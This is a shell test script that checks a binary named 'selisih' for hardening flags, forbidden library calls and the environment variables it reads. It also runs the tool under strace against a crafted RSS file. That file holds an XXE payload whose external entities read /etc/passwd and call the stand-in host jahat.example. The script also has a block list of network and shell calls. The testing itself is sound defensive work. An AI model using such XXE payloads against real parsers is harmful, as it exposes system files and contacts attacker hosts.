#!/bin/sh
# What the command promises about itself, read from the built file and from what it asks the system.
#
#     sh tests/trust/run.sh SELISIH [pie]
#
# Hardening flags; no variables of the environment but those of the manual; no sockets, no shell.
set -u

selisih=$(cd "$(dirname "$1")" && pwd)/$(basename "$1")
root=$(cd "$(dirname "$0")/../.." && pwd)
work=$(mktemp -d) || exit 2
trap 'rm -rf "$work"' EXIT
failed=0

fail() {
    failed=1
    echo "FAIL $1"
}

readelf -hlW "$selisih" >"$work/head"
readelf -dW "$selisih" >"$work/dynamic"
readelf -W --dyn-syms "$selisih" | awk '$7 == "UND" { sub(/@.*/, "", $8); print $8 }' >"$work/asked"

if grep -q __asan_init "$work/asked"; then
    echo 'SKIP: a build for the sanitizers is not hardened'
    exit 77
fi
[ "${2:-}" != pie ] || grep -q 'Type: *DYN' "$work/head" || fail 'not position-independent'
grep -q GNU_RELRO "$work/head" || fail 'no RELRO'
grep -q 'BIND_NOW\|FLAGS_1.*NOW' "$work/dynamic" || fail 'RELRO is not full'
grep 'GNU_STACK' "$work/head" | grep -q 'RWE' && fail 'the stack is executable'
grep -q 'LOAD.*RWE' "$work/head" && fail 'writable code'
grep -q '__stack_chk_fail' "$work/asked" || fail 'no stack protector'
grep -q '_chk$' "$work/asked" || fail 'not fortified'
grep -q 'RPATH\|RUNPATH' "$work/dynamic" && fail 'a search path for libraries'

# The calls that reach a network or a shell are not even asked of the libraries.
for call in socket connect bind listen accept getaddrinfo gethostbyname sendto recvfrom system popen \
    execl execlp execv execvp dlopen setenv putenv gets strcpy strcat sprintf tmpnam mktemp; do
    grep -qx "$call" "$work/asked" && fail "uses $call"
done

# Variables that the sources read, and what the manual lists.
grep -rhoE 'getenv\("[A-Z_]*"\)' "$root/src" | sort -u >"$work/read"
printf 'getenv("%s")\n' GITHUB_STEP_SUMMARY NO_COLOR TERM >"$work/listed"
diff "$work/listed" "$work/read" || fail 'other variables of the environment than the manual lists'

# What the system was asked for while articles of every form were read.
if command -v strace >/dev/null 2>&1 && strace -o /dev/null true 2>/dev/null; then
    mkdir "$work/in"
    cp "$root"/tests/cli/inputs/files/* "$work/in"
    cat >"$work/in/luar.rss" <<'R'
<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://jahat.example/umpan.dtd" [
<!ENTITY rahasia SYSTEM "file:///etc/passwd"> <!ENTITY jauh SYSTEM "http://jahat.example/x">
]>
<rss version="2.0"><channel><title>Umpan</title><item><title>Judul</title>
<description>&rahasia; &jauh; Banjir menewaskan 12 orang.</description></item></channel></rss>
R
    (cd "$work/in" && strace -f -o "$work/trace" -e trace=network,execve,open,openat \
        "$selisih" check --quiet --fail-level none . >/dev/null 2>&1)
    grep -E '^[0-9]+ +(socket|connect|sendto|bind)\(' "$work/trace" && fail 'the network is asked'
    grep -c 'execve(' "$work/trace" | grep -qx 1 || fail 'another program is run'
    grep -E '/etc/(passwd|shadow|resolv|hosts|nsswitch)' "$work/trace" && fail 'files of the system'
    grep -rl 'root:' "$work/in/claims" "$work/in/reports" && fail 'a feed brings a file in'
else
    echo 'note: no strace here: what the system is asked for was not looked at'
fi
[ "$failed" -eq 0 ] && echo 'trusted: flags, environment, network, shell'
exit "$failed"
